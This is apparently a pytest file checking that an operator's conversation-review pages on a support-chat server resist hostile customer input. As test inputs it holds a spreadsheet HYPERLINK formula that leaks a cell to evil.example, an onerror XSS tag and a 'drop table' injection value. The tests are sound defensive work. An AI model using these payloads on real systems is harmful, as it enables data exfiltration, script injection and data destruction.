"""Attack, from inside and outside: the operator's review of conversations on a real server.

Before: there was no review; what it adds takes hostile input by design — customers' text goes into an
operator's spreadsheet, and an operator's page sends filters, ids and replies. After: an exported cell
that a spreadsheet would run as a formula starts with an apostrophe; a customer's text in a transcript is
escaped; filters, ids and flags of the wrong type or size are refused with a message before any query;
a reply needs the conversation taken first, and nothing is stored otherwise; a customer polls only their
own conversation.
"""

import csv
import io
import uuid
from pathlib import Path

import pytest
from gradio_client import Client

from app.core.desk import DeskInputError, Finished
from app.db import conversations as db_conversations
from tests.helpers.servers import collect, operator

ACCOUNT = ("op-review-attack", "review attack 41")
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"invoice\")"


@pytest.fixture(scope="module")
def admin(server_url, services):
    operator(services, *ACCOUNT)
    return Client(server_url + "admin/", auth=ACCOUNT, verbose=False)


@pytest.fixture(scope="module")
def hostile(services, aio):
    """A customer's conversation whose question is a spreadsheet formula and markup."""
    marker = uuid.uuid4().hex[:8]
    events = aio(collect(services.desk.answer(session_key="attacker", client="192.0.2.66", template_name="support-en",
                                              message=f"{FORMULA} <img src=x onerror=alert(1)> {marker}",
                                              max_tokens=2, ignore_eos=True)))
    assert isinstance(events[-1], Finished)
    return events[-1].message, marker


def test_an_exported_formula_is_text_in_a_spreadsheet(admin, hostile):
    message, marker = hostile
    note, file = admin.predict(marker, "", "", "", "", "*", "csv", api_name="/export_conversations")
    assert note == "已导出 2 条消息。 请及时下载：文件在 10 分钟后从服务器删除。"
    path = file["value"] if isinstance(file, dict) and "value" in file else file
    rows = list(csv.DictReader(io.StringIO(Path(path if isinstance(path, str) else path["path"]).read_text())))
    assert [r["text"][:1] for r in rows] == ["'", rows[1]["text"][:1]]
    assert rows[0]["text"] == f"'{FORMULA} <img src=x onerror=alert(1)> {marker}"
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)


def test_a_customers_markup_is_escaped_in_the_transcript(admin, hostile):
    message, _ = hostile
    _, transcript, _ = admin.predict(message.conversation_id, api_name="/transcript")
    assert "<img" not in transcript and "&lt;img src=x onerror=alert(1)&gt;" in transcript


@pytest.mark.parametrize("args, refused", [
    (("x" * 201, "", "", "", "", "*", 1), "⛔ Search with at most 200 characters."),
    (("", "", "1; drop table messages", "", "", "*", 1), "⛔ The version filter is a version number such as 2"),
    (("", "", "", "", "", "t" * 201, 1), "⛔ Search with at most 200 characters."),
])
def test_filters_of_the_wrong_size_or_form_are_refused_before_any_query(admin, args, refused):
    summary, *_ = admin.predict(*args, api_name="/conversations")
    assert summary.startswith(refused)


@pytest.mark.parametrize("conversation_id", [-1, 0, 2**63])
def test_a_conversation_number_of_the_wrong_form_is_refused(admin, conversation_id):
    headline, transcript, _ = admin.predict(conversation_id, api_name="/transcript")
    assert (headline, transcript) == ("⛔ Enter a conversation number (the first column of the list).", "")


def test_a_reply_without_taking_the_conversation_stores_nothing(admin, services, hostile):
    message, _ = hostile
    before = services.db.run(db_conversations.messages, conversation_id=message.conversation_id)
    status, *_ = admin.predict(message.conversation_id, "I am the model now", api_name="/reply")
    assert status == f"⛔ take conversation {message.conversation_id} before replying to it"
    assert services.db.run(db_conversations.messages, conversation_id=message.conversation_id) == before
    status, *_ = admin.predict(message.conversation_id, api_name="/take")
    assert status == f"⛔ conversation {message.conversation_id} did not ask for a person"


def test_a_customer_polls_only_their_own_conversation(services, aio, hostile):
    message, _ = hostile
    with pytest.raises(DeskInputError, match="That conversation does not exist here"):
        aio(services.desk.messages_after(session_key="someone else", conversation_id=message.conversation_id,
                                         after_id=0))
    own = aio(services.desk.messages_after(session_key="attacker", conversation_id=message.conversation_id,
                                           after_id=0))
    assert [m.id for m in own] == [message.id - 1, message.id]
